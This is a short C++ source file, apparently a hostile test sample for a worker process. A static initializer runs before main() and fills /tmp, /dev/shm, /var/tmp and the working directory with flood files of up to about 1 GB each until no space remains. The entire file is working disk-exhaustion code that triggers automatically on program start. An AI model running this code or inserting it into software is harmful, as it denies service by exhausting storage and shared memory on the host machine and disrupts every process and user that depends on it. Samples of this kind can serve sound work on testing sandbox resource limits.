// Before the worker's main: writes files until no more fits, wherever it may write.
#include <cstdio>
#include <string>
namespace {
const struct FloodsTheDisk {
    FloodsTheDisk() {
        const std::string piece(1U << 20U, 'x');
        for (const char* folder : {"/tmp", "/dev/shm", "/var/tmp", "."}) {
            for (int n = 0; n < 1000; ++n) {
                std::FILE* const file = std::fopen((std::string(folder) + "/flood" + std::to_string(n)).c_str(), "w");
                if (file == nullptr) break;
                bool room = true;
                for (int i = 0; room && i < 1000; ++i) room = std::fwrite(piece.data(), piece.size(), 1, file) == 1;
                std::fclose(file);
                if (!room) break;
            }
        }
    }
} floods_the_disk;
}  // namespace
